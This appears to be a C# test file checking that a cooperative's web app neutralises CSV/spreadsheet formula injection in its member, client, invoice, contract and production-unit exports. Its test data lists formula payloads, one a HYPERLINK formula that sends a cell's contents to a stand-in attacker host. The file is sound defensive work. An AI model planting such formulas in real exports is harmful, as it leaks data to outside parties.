using System.Globalization;
using System.Net;
using CsvHelper;
using Microsoft.Extensions.DependencyInjection;
using Smart.Web.Pages.Shared;
using Smart.Web.Storage;
using Smart.Web.Storage.Audit;
using Smart.Web.Storage.Clients;
using Smart.Web.Storage.Contracts;
using Smart.Web.Storage.Invoices;
using Smart.Web.Storage.Members;
using Smart.Web.Storage.ProductionUnits;

namespace Smart.Web.Tests;

/// <summary>Issue 10, F6: no export hands a spreadsheet a formula, whichever list it comes from.</summary>
public class CsvExportTests(SmartWebFactory app) : IClassFixture<SmartWebFactory>
{
    /// <summary>OWASP's formula starters, each as a user (or an import) could type it at the start of a text field.</summary>
    public static readonly string[] Formulas =
        ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

    private static readonly AuditActor Tester = new("test");
    private T Store<T>() where T : notnull => app.Services.GetRequiredService<T>();

    [Fact]
    public async Task Export_neutralises_formula_cells_in_every_csv()
    {
        var owner = (await Store<IMemberStore>().SearchAsync(new MemberQuery(CountryScope.Only("BE")) { Take = 1 })).Rows[0];
        var client = (await Store<IClientStore>().SearchAsync(new ClientQuery(CountryScope.Only("BE")) { Take = 1 })).Rows[0];
        var unit = await Store<IProductionUnitStore>().AddAsync(new ProductionUnit
        {
            Country = "BE", Name = "Export test unit", MemberId = owner.Id, Sector = owner.Sector, OpeningBalance = 1000m, Created = new DateOnly(2026, 1, 5),
        }, Tester);

        var members = new Dictionary<string, int>();
        var units = new Dictionary<string, int>();
        var clients = new Dictionary<string, int>();
        var invoices = new Dictionary<string, int>();
        var contracts = new Dictionary<string, int>();
        foreach (var formula in Formulas)
        {
            members[formula] = (await Store<IMemberStore>().AddAsync(owner with { Id = 0, FirstName = formula, Email = $"{Guid.NewGuid():N}@example.org", NationalNumber = null }, Tester)).Id;
            units[formula] = (await Store<IProductionUnitStore>().AddAsync(new ProductionUnit
            {
                Country = "BE", Name = formula, MemberId = owner.Id, Sector = owner.Sector, Created = new DateOnly(2026, 1, 5),
            }, Tester)).Id;
            clients[formula] = (await Store<IClientStore>().AddAsync(new Client { Country = "BE", Kind = ClientKind.Individual, Name = formula }, Tester)).Id;
            // No page lets a user type these two fields; a store written by an import or an older version still must not export a formula.
            invoices[formula] = (await Store<IInvoiceStore>().AddDraftAsync(new Invoice
            {
                Country = "BE", Issuer = formula, ProductionUnitId = unit.Id, ClientId = client.Id, Date = new DateOnly(2026, 3, 2),
            }, Tester)).Id;
            contracts[formula] = (await Store<IContractStore>().AddAsync(new Contract
            {
                Country = "BE", ProductionUnitId = unit.Id, MemberId = owner.Id, JobCategory = formula, StartDate = new DateOnly(2026, 3, 2), Days = 1, Budget = 100m,
            }, Tester)).Id;
        }

        using var staff = await Browser.SignedInAsync(app, "staff@smart.coop");
        await AssertNeutralisedAsync(staff, "/Members/Export?Country=BE", "FirstName", members);
        await AssertNeutralisedAsync(staff, "/ProductionUnits/Export?Country=BE", "Name", units);
        await AssertNeutralisedAsync(staff, "/Clients/Export?Country=BE", "Name", clients);
        await AssertNeutralisedAsync(staff, "/Invoices/Export?Country=BE", "Issuer", invoices);
        await AssertNeutralisedAsync(staff, "/Contracts/Export?Country=BE", "JobCategory", contracts);
    }

    [Fact]
    public async Task Export_keeps_ordinary_text_and_negative_numbers_the_app_writes_as_they_are()
    {
        var owner = (await Store<IMemberStore>().SearchAsync(new MemberQuery(CountryScope.Only("FR")) { Take = 1 })).Rows[0];
        var member = await Store<IMemberStore>().AddAsync(owner with
        {
            Id = 0,
            FirstName = "Zoé",
            LastName = "O'Neil-Dupont, \"Jr\"",
            Email = $"{Guid.NewGuid():N}@example.org",
            // Another person: the owner's national number is the owner's alone (the store refuses a second holder).
            NationalNumber = null,
            AuthorRightsYearToDate = -12.50m,
        }, Tester);
        var unit = await Store<IProductionUnitStore>().AddAsync(new ProductionUnit
        {
            Country = "FR", Name = "Atelier 1+1", MemberId = owner.Id, Sector = owner.Sector, OpeningBalance = -12.50m, Created = new DateOnly(2026, 1, 5),
        }, Tester);

        using var staff = await Browser.SignedInAsync(app, "staff@smart.coop");
        var memberRow = (await staff.DownloadCsvAsync("/Members/Export?Country=FR")).Rows.Single(r => r["Id"] == Text(member.Id));
        Assert.Equal(("Zoé", "O'Neil-Dupont, \"Jr\"", "-12.50"), (memberRow["FirstName"], memberRow["LastName"], memberRow["AuthorRightsYearToDate"]));
        var unitRow = (await staff.DownloadCsvAsync("/ProductionUnits/Export?Country=FR")).Rows.Single(r => r["Id"] == Text(unit.Id));
        Assert.Equal(("Atelier 1+1", "-12.50", "2026-01-05"), (unitRow["Name"], unitRow["AvailableBudget"], unitRow["Created"]));
    }

    [Fact]
    public async Task Csv_writer_neutralises_a_leading_tab_or_carriage_return_the_store_would_have_trimmed()
    {
        using var stream = new MemoryStream();
        await CsvExport.WriteAsync(stream, ["Text", "Amount"], Rows(), (csv, row) =>
        {
            csv.WriteField(row.Text);
            csv.WriteField(row.Amount, "");
        }, CancellationToken.None);
        using var reader = CsvReader.FromText(System.Text.Encoding.UTF8.GetString(stream.ToArray()));
        var read = new List<(string?, string?)>();
        while (reader.Read()) read.Add((reader.Current.ToDictionary()["Text"], reader.Current.ToDictionary()["Amount"]));
        Assert.Equal([("'\t=1+1", "-12.50"), ("'\r=1+1", "0"), ("plain", "3")], read);

        static async IAsyncEnumerable<(string Text, decimal Amount)> Rows()
        {
            await Task.Yield();
            yield return ("\t=1+1", -12.50m);
            yield return ("\r=1+1", 0m);
            yield return ("plain", 3m);
        }
    }

    private static async Task AssertNeutralisedAsync(Browser browser, string url, string column, IReadOnlyDictionary<string, int> idsByFormula)
    {
        var rows = (await browser.DownloadCsvAsync(url)).Rows.ToDictionary(r => r["Id"]!);
        foreach (var (formula, id) in idsByFormula)
        {
            // LiteDB trims stored text, so "\t=1+1" comes back as "=1+1"; PostgreSQL keeps it whole: either way still a formula, still neutralised.
            var expected = "'" + (SmartWebFactory.RunsOnPostgreSql ? formula : formula.Trim());
            Assert.True(rows[Text(id)][column] == expected, $"{url}: {column} of {id} is {rows[Text(id)][column]}, expected {expected}");
        }
    }


    private static string Text(int id) => id.ToString(CultureInfo.InvariantCulture);
}
